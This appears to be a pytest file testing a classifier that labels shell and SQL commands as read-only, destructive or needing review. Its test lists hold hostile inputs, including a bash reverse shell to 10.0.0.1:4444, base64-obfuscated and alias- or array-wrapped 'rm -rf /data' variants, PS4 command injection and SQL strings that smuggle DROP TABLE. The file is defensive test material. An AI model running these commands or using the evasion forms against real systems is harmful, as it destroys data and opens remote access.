"""Claims that red teaming taught: places of settings, words behind `exec`, quotes that are lost, unread programs."""

import pytest

from tocsin.effects.effect import Effect, Flag
from tocsin.effects.judge import judge

ONLY_CONTEXT = [
    "KUBECONFIG=~/.kube/prod.yaml kubectl get pods",
    "kubectl --kubeconfig $HOME/.kube/prod get pods",
    "mysql --defaults-file=/etc/mysql/debian.cnf -e 'select 1'",
    "ssh -F ~/.ssh/prod host uptime",
]
NOBODY_VOUCHES = [
    "KUBECONFIG=/tmp/x kubectl get pods",
    "KUBECONFIG=$K kubectl get pods",
    "kubectl --kubeconfig=/tmp/x get pods",
    "AWS_CONFIG_FILE=/tmp/x aws s3 ls",
    "DOCKER_CONFIG=/tmp docker ps",
    "ssh -F /tmp/x host uptime",
    "mysql --defaults-file=/tmp/x.cnf -e 'select 1'",
    "TF_CLI_ARGS_plan=-destroy terraform plan",
    "SYSTEMD_PAGER=/tmp/x systemctl status",
    "PS4='$(id)' bash -xc ls",
    "bash -i >& /dev/tcp/10.0.0.1/4444",
    "python3 -c 'import sys; print(exec(sys.stdin.read()))'",
    'python3 -c \'import sys; sys.modules["os"].system("x")\'',
    "clickhouse-client --queries-file x.sql",
    "source /tmp/env.sh",
    "a=($((rm x)))",
]
DESTROYS = [
    "docker system prune -af --volumes",
    "docker exec -it c rm -rf /var/lib/mysql/*",
    "oc rsh p find /data -delete",
    "kubectl exec p rm -rf /data --dry-run=client",
    "kubectl exec -it p -n x -- psql -c 'drop table t'",
    "crictl exec -it c git checkout -- .",
    "incus exec c -- rm -rf /data",
    "alias x='ls; rm -rf /data'\nx",
    'a=(rm -rf /data); "${a[@]}"',
    "r\\\nm -rf /data",
    "echo cm0gLXJmIC9kYXRh | base64 -d | sh",
    "ssh h -p 22 -- rm -rf /data",
    "redis-cli EVAL 'redis.call(\"del\", KEYS[1])' 1 k",
    "python3 -c 'import shutil; shutil.rmtree(\"/data\")'",
    "awk 'BEGIN { system(\"rm -rf /data\") }'",
    "cat /dev/null | tee /var/log/app.log",
]
LOOKS = [
    "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"a\"])'",
    "awk '{print ($1 > 400 ? 1 : 2)}' access.log",
    "command -v kubectl",
    "git --version",
    "redis-cli EVAL 'return redis.call(\"get\", KEYS[1])' 1 k",
    "gh api repos/a/b --jq .name",
    "wal-g delete retain FULL 5",
    "python3 - <<'E'\nprint(1)\nE",
]
# The same text, cut into statements by PostgreSQL and by MySQL.
CUT_DIFFERENTLY = [
    "SELECT 'a\\' , '; DROP TABLE x; -- '",
    "SELECT 1 # ' \n; DROP TABLE x # '",
]


@pytest.mark.parametrize("text", ONLY_CONTEXT)
def test_settings_from_where_a_team_keeps_them_only_say_where(text: str) -> None:
    assert judge(text).effect is Effect.OBSERVE
    assert Flag.CONTEXT in judge(text).flags or text.startswith(("ssh", "mysql"))


@pytest.mark.parametrize("text", NOBODY_VOUCHES)
def test_what_nobody_vouches_for_is_unknown(text: str) -> None:
    assert judge(text).effect.needs_two, judge(text).effect


@pytest.mark.parametrize("text", DESTROYS)
def test_it_destroys_however_it_is_carried(text: str) -> None:
    assert judge(text).effect is Effect.DESTROY, judge(text).reasons


@pytest.mark.parametrize("text", LOOKS)
def test_it_only_looks(text: str) -> None:
    assert judge(text).effect is Effect.OBSERVE, judge(text).reasons


@pytest.mark.parametrize("text", CUT_DIFFERENTLY)
def test_sql_for_a_server_nobody_names_counts_as_the_worse_reading(text: str) -> None:
    assert judge(text, "sql").effect is Effect.DESTROY
